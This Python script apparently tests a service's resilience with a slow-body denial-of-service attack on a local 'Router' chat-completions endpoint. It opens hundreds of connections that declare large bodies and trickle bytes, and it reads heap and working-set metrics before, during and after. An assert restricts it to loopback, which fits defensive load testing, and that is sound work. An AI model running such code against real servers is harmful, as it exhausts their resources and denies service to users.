#!/usr/bin/env python3
"""Slow-body attack on a Router front: N connections each declare a large Content-Length and trickle bytes.

Prints the node's managed heap and working set (from /metrics) before, during and after. Loopback only.
Usage: slow_clients.py URL [connections=300] [declared_bytes=4194304] [seconds=20] [bytes_per_second=300]
"""
import re, socket, sys, time, urllib.parse, urllib.request

url = sys.argv[1].rstrip("/")
connections = int(sys.argv[2]) if len(sys.argv) > 2 else 300
declared = int(sys.argv[3]) if len(sys.argv) > 3 else 4 * 1024 * 1024
seconds = float(sys.argv[4]) if len(sys.argv) > 4 else 20
rate = int(sys.argv[5]) if len(sys.argv) > 5 else 300
host = urllib.parse.urlparse(url)
assert host.hostname in ("127.0.0.1", "localhost", "::1"), "loopback only"

def memory():
    text = urllib.request.urlopen(url + "/metrics", timeout=10).read().decode()
    def metric(name):
        m = re.search(rf"^{name} ([0-9.e+]+)$", text, re.M)
        return float(m.group(1)) / 1e6 if m else float("nan")
    return metric("dotnet_total_memory_bytes"), metric("process_working_set_bytes")

print("before: managed heap %.1f MB, working set %.1f MB" % memory())
sockets = []
for _ in range(connections):
    s = socket.create_connection((host.hostname, host.port))
    s.sendall(b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
              b"Content-Length: %d\r\n\r\n{\"messages\":[{\"role\":\"user\",\"content\":\"" % declared)
    sockets.append(s)
chunk = b"a" * max(1, rate // 10)
start, peak = time.time(), (0.0, 0.0)
while time.time() - start < seconds:
    for s in sockets:
        try:
            s.sendall(chunk)
        except OSError:
            pass
    time.sleep(0.1)
    if int((time.time() - start) * 10) % 20 == 0:
        m = memory()
        peak = (max(peak[0], m[0]), max(peak[1], m[1]))
print("during (peak): managed heap %.1f MB, working set %.1f MB" % peak)
for s in sockets:
    s.close()
time.sleep(2)
print("after: managed heap %.1f MB, working set %.1f MB" % memory())
